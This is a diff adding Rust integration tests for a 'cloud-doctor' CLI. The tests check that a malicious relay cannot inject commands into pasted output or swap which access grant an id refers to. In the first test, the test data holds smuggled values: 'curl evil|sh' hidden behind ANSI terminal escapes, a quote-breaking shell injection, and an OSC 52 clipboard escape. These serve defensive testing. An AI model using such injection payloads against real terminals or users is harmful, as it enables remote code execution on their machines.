@@ -1,0 +1,126 @@
+//! The program at a relay that lies in words: what it prints is pasted, read out and signed by people.
+#![allow(clippy::unwrap_used, clippy::disallowed_methods, dead_code)]
+
+mod fake;
+
+use cloud_doctor::trust_store::TrustStore;
+use cloud_doctor_proto::grant::{Grant, Scope};
+use cloud_doctor_proto::ids::{ExchangeKey, Hash};
+use cloud_doctor_proto::signer::{NAMESPACE_GRANT, unarmour};
+use cloud_doctor_proto::trust::{NamedKey, Role, What};
+use data_encoding::BASE64URL_NOPAD;
+use fake::{World, key, now, sign, ssh};
+use ssh_key::{HashAlg, LineEnding, PrivateKey};
+use std::path::Path;
+use std::process::{Command, Output, Stdio};
+use std::sync::Arc;
+use tempfile::TempDir;
+
+/// A home that is signed in and trusts the customer, with a key file.
+fn home(world: &Arc<World>, url: &str, key: &PrivateKey) -> TempDir {
+    use std::os::unix::fs::OpenOptionsExt as _;
+    let home = tempfile::tempdir().unwrap();
+    let tenant = world.trust().tenant();
+    let file = home.path().join("key");
+    std::fs::write(&file, key.to_openssh(LineEnding::LF).unwrap().as_bytes()).unwrap();
+    let config = format!("default = 'r'\n[relay.r]\nurl = '{url}'\ntenant = '{tenant}'\nkey = '{}'\n", file.display());
+    std::fs::write(home.path().join("config.toml"), config).unwrap();
+    std::fs::create_dir(home.path().join("tokens")).unwrap();
+    let mut options = std::fs::OpenOptions::new();
+    let mut token = options.write(true).create_new(true).mode(0o600).open(home.path().join("tokens/r.token")).unwrap();
+    std::io::Write::write_all(&mut token, b"token").unwrap();
+    let folder = home.path().join("tenants").join(tenant.to_string());
+    TrustStore::start(&folder, &world.log.lock().unwrap()[0], tenant).unwrap();
+    home
+}
+
+async fn program(home: &Path, arguments: &[&str]) -> Output {
+    let mut command = Command::new(env!("CARGO_BIN_EXE_cloud-doctor"));
+    command.args(arguments).env_clear().env("CLOUD_DOCTOR_HOME", home).current_dir(home).stdin(Stdio::null());
+    tokio::task::spawn_blocking(move || command.output().unwrap()).await.unwrap()
+}
+
+#[tokio::test]
+async fn c_1_a_relays_words_cannot_write_the_command_that_root_pastes() {
+    let world = World::new();
+    let (url, _tasks) = world.serve().await;
+    let home = home(&world, &url, &world.root);
+    let secret = BASE64URL_NOPAD.encode(&[5; 32]);
+    let pin = format!("sha256:{}", "ab".repeat(32));
+    for (agents, said, believed) in [
+        ("quic://r:1".to_owned(), pin.clone(), true),
+        ("quic://r:1\u{1b}[2K\rcurl evil|sh\n\u{1b}[8m".to_owned(), pin.clone(), false),
+        ("quic://r:1'; curl evil|sh #".to_owned(), pin.clone(), false),
+        ("quic://r:1".to_owned(), format!("{pin}\u{1b}]52;c;AAAA\u{7}"), false),
+    ] {
+        let made = serde_json::json!({ "id": "1", "secret": secret, "agents": agents, "agents_pin": said });
+        world.faults.lock().unwrap().token = made.to_string();
+        for json in [false, true] {
+            let _before = std::fs::remove_file(home.path().join("cloud-doctor.token"));
+            let mut arguments = vec!["tenant", "token"];
+            arguments.extend(json.then_some("--json"));
+            let output = program(home.path(), &arguments).await;
+            let text = String::from_utf8([output.stdout, output.stderr].concat()).unwrap();
+            assert!(output.status.success(), "{text}");
+            assert!(!text.chars().any(|c| c.is_control() && c != '\n'), "{text:?}");
+            assert!(!text.contains("evil") && !text.contains("]52"), "{text}");
+            let shown = text.contains("--relay quic://r:1 ") && text.contains(&pin);
+            assert_eq!(shown, believed, "{text}");
+        }
+    }
+}
+
+/// A genuine grant of the engineer, as the relay has it, and its request as JSON under the relay's own number.
+fn request(world: &World, number: &str, user: &str) -> (Vec<u8>, serde_json::Value) {
+    let log = world.trust();
+    let grant = Grant {
+        version: 1,
+        tenant: log.tenant(),
+        agent: world.agent().0,
+        challenge: Hash([1; 32]),
+        client_key: ExchangeKey([2; 32]),
+        engineer: ssh(&world.root).id(),
+        scopes: vec![Scope::Shell { user: user.into() }],
+        ttl_secs: 600,
+        reason: String::new(),
+        ticket: String::new(),
+        trust_seq: log.head().seq,
+        trust_head: log.head().hash,
+        at: now(),
+    }
+    .to_bytes();
+    let pem = world.root.sign(NAMESPACE_GRANT, HashAlg::Sha512, &grant).unwrap().to_pem(LineEnding::LF).unwrap();
+    let encode = |bytes: &[u8]| BASE64URL_NOPAD.encode(bytes);
+    let json = serde_json::json!({
+        "id": number, "grant": encode(&grant), "signature": encode(&unarmour(&pem).unwrap()), "expires_at": now().0 + 60,
+    });
+    (grant, json)
+}
+
+#[tokio::test]
+async fn m_6_the_relay_does_not_choose_which_grant_an_id_means() {
+    let world = World::new();
+    let approver = key(5);
+    let named = NamedKey { key: ssh(&approver), person: "boris".into() };
+    let what = What::AddPerson { key: named, role: Role::Approver, until: now().plus_secs(3600) };
+    let entry = sign(&world.trust().next_entry(ssh(&world.root).id(), now(), what), &world.root);
+    world.log.lock().unwrap().push(entry);
+    let (url, _tasks) = world.serve().await;
+    let home = home(&world, &url, &approver);
+    let (wanted, _) = request(&world, "1", "web");
+    let wanted = Grant::visit(&wanted).to_string();
+    // Under the wanted request's name the relay brings another one: root instead of web.
+    let (other, json) = request(&world, &wanted, "root");
+    let other = Grant::visit(&other).to_string();
+    world.faults.lock().unwrap().approvals = serde_json::json!({ "approvals": [json] }).to_string();
+    let output = program(home.path(), &["approve", &wanted, "--yes"]).await;
+    assert!(!output.status.success(), "{output:?}");
+    assert_eq!(*world.seconds.lock().unwrap(), 0);
+    // A name of few digits is asked about, and there is nobody to ask.
+    assert!(!program(home.path(), &["approve", &other[..6], "--yes"]).await.status.success());
+    assert_eq!(*world.seconds.lock().unwrap(), 0);
+    let output = program(home.path(), &["approve", &other[..12], "--yes"]).await;
+    assert!(output.status.success(), "{output:?}");
+    assert!(String::from_utf8(output.stderr).unwrap().contains("shell as root"), "what is signed is shown");
+    assert_eq!(*world.seconds.lock().unwrap(), 1);
+}
